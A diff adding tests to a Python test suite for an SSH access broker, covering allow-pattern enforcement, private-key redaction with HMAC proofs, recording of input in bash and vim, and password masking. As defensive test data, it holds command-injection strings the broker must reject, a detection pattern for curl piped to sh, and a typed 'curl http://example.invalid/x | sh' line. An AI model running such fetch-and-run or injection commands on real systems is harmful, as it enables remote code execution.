@@ -6,7 +6,10 @@ paramiko and checks what the client saw, the audit log and the recording.
 
 from __future__ import annotations
 
+import hashlib
+import hmac
 import json
+import re
 import subprocess
 import threading
 import time
@@ -293,3 +296,134 @@ def test_watch_alert_and_terminate(broker):
     b.wait_audit("watch", lambda e: e["on"] == "output")
     rec = b.recording_for("echo DROP TABLE users; sleep 10; echo after")
     assert markers(rec) == ["session terminated: no schema changes"]
+
+
+def test_allow_pattern_matches_the_pipeline_structure(broker):
+    """A control character in an allow pattern matches only at its position:
+    "ps * | grep *" lets one pipe into grep through, never a further stage."""
+    b = broker(users={"alice": {"groups": ["agents"]}},
+               rules=[{"groups": ["agents"], "targets": ["local"], "pty": False,
+                       "commands": {"allow": ["echo * | grep *", "echo *"]}}])
+    r = b.ssh("alice", "local", "--", "echo x | grep x")
+    assert (r.returncode, r.stdout) == (0, b"x\n"), r.stderr
+    r = b.ssh("alice", "local", "--", "echo 'a|b;c' | grep \"|b;\"")
+    assert (r.returncode, r.stdout) == (0, b"a|b;c\n"), r.stderr
+    for cmd in ("echo x | grep x | sh -c id", "echo x | grep x; id", "echo x | id",
+                "echo x || id", "echo x | grep \"$(id)\"", "echo x & id"):
+        r = b.ssh("alice", "local", "--", cmd)
+        assert r.returncode == 126 and r.stdout == b"", (cmd, r)
+        assert r.stderr.endswith(b"matches no allow pattern\n"), (cmd, r.stderr)
+
+
+def _proofs(rec):
+    """[(kind, length, stream, hmac)] of the redaction proofs in a recording."""
+    out = []
+    for e in rec.events:
+        if e.code == "m":
+            text = e.payload.decode() if isinstance(e.payload, bytes) else e.payload
+            m = re.match(r"redacted ([a-z0-9-]+): (\d+) bytes of (\w+), hmac-sha256 ([0-9a-f]{64})$",
+                         text)
+            if m:
+                out.append((m.group(1), int(m.group(2)), m.group(3), m.group(4)))
+    return out
+
+
+def test_a_typed_begin_line_cannot_blind_the_session(broker):
+    """A PEM BEGIN line is not a key: what follows stays in the recording,
+    the audit log and the header, and the redaction is proved by an HMAC
+    under the broker's redaction key."""
+    b = broker()
+    begin = b"-----BEGIN RSA PRIVATE KEY-----"
+    client = b.connect("alice")
+    chan = Chan(client, "local")
+    chan.send(b"# " + begin + b"\r")
+    chan.send(b"echo VISIBLE-$((6*7))\r")
+    chan.wait(b"VISIBLE-42")
+    chan.send(b"exit\r")
+    assert chan.status() == 0
+    rec = b.wait_recordings(1)[0]
+    assert b"echo VISIBLE-$((6*7))" in rec.data("i")
+    assert b"VISIBLE-42" in rec.data("o")
+    assert b"[REDACTED:private-key]" in rec.data("i")
+    keyfile = b.workdir / "state" / "redaction_key"
+    assert oct(keyfile.stat().st_mode & 0o777) == "0o600"
+    key = bytes.fromhex(keyfile.read_text().strip())
+    want = hmac.new(key, begin, hashlib.sha256).hexdigest()
+    assert ("private-key", len(begin), "input", want) in _proofs(rec), rec.events
+
+    # In a command, the header and the audit event keep what follows.
+    cmd = "# -----BEGIN RSA PRIVATE KEY-----\necho after-the-begin-line"
+    r = b.ssh("alice", "local", "--", cmd)
+    assert r.returncode == 0 and r.stdout == b"after-the-begin-line\n", r
+    e = b.wait_audit("session_start", lambda e: "after-the-begin" in e.get("command", ""))[0]
+    assert e["command"] == "# [REDACTED:private-key]\necho after-the-begin-line", e
+    # ... and the HMAC of the command as given proves what the marker hides.
+    assert e["command_hmac"] == hmac.new(key, cmd.encode(), hashlib.sha256).hexdigest(), e
+    rec = b.recording_for("# [REDACTED:private-key]\necho after-the-begin-line")
+    assert rec.data("o") == b"after-the-begin-line\n"
+
+
+# ---------------------------------------------------------------- input masking
+
+def test_input_in_bash_and_vim_is_recorded_and_watched(broker):
+    """bash (readline) and vim turn echo off but leave canonical mode: their
+    input is no password, so it is recorded as typed and watch rules see it."""
+    import shutil
+    vim = shutil.which("vim") or shutil.which("vim.tiny") or shutil.which("vi")
+    b = broker(targets={"local": {"shell": "/bin/bash"}},
+               rules=[{"groups": ["oncall"], "targets": ["local"],
+                       "watch": [{"on": "input", "pattern": "re:curl .*\\| *sh",
+                                  "action": "terminate"}]}])
+    client = b.connect("alice")
+    chan = Chan(client, "local")
+    chan.send(b"echo RE\"\"ADY\r")
+    chan.wait(b"READY\r\n")
+    chan.send(b"echo typed-in-\"bash\"\r")
+    chan.wait(b"typed-in-bash\r\n")
+    if vim is not None:
+        # No terminal queries: the test does not answer them.
+        chan.send(f"{vim} -u NONE -N --cmd 'set t_u7= t_RV= t_RB= t_RF= t_RS= t_RC=' "
+                  f"/tmp/podgate-vim-$$\r".encode())
+        chan.wait(b"[New", timeout=10)
+        chan.send(b"ityped-in-vim\x1b:q!\r")
+        chan.send(b"echo back-from-\"vim\"\r")
+        chan.wait(b"back-from-vim\r\n")
+    chan.send(b"curl http://example.invalid/x | sh\r")
+    wait_until(lambda: b"session terminated" in chan.out + chan.err, 10, "the watch to end it")
+    chan.status()
+    rec = b.wait_recordings(1)[0]
+    typed = rec.data("i")
+    assert b'echo typed-in-"bash"' in typed, typed
+    assert vim is None or b"ityped-in-vim" in typed, typed
+    assert b"curl http://example.invalid/x | sh" in typed
+    assert b.wait_audit("watch")
+
+
+def test_password_prompts_are_masked(broker):
+    """Echo off in canonical mode (read -s, getpass) is masked; so is the
+    answer to an output line matching passprompt, with echo on."""
+    b = broker(targets={"local": {"shell": "/bin/bash"}},
+               rules=[{"groups": ["oncall"], "targets": ["local"],
+                       "passprompt": ["re:Secret code: $"]}])
+    client = b.connect("alice")
+    # The second prompt is read with echo off outside canonical mode (as a
+    # terminal inside a pod looks from here): only passprompt can tell.
+    cmd = ("read -s -p 'Password: ' a; echo; echo got-one; stty -echo -icanon; "
+           "read -p 'Secret code: ' c; stty sane; echo got-two; read -p 'Name: ' n; "
+           "echo got-three")
+    chan = Chan(client, f"local -- {cmd}")
+    chan.wait(b"Password: ")
+    chan.send(b"Sup3rS3cret\r")
+    chan.wait(b"got-one")
+    chan.wait(b"Secret code: ")
+    chan.send(b"4711-code\r")
+    chan.wait(b"got-two")
+    chan.wait(b"Name: ")
+    chan.send(b"visible-name\r")
+    chan.wait(b"got-three")
+    assert chan.status() == 0
+    rec = b.wait_recordings(1)[0]
+    typed = rec.data("i")
+    assert typed == b"***********\r*********\rvisible-name\r", typed
+    raw = rec.path.read_bytes()
+    assert b"Sup3rS3cret" not in raw and b"4711-code" not in raw
